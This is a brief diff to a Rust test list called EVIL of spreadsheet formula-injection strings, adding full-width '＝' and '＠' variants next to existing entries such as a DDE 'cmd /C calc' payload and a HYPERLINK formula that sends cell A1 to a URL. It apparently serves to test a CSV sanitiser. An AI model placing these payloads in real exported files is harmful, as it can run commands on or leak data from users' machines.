@@ -14,6 +14,8 @@ const EVIL: &[&str] = &[
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1)",
+    "＝1+1",
+    "＠SUM(A1)",
     "\t=1+2",
     "\r=1+3",
     "=HYPERLINK(\"https://example.org?\"&A1)",
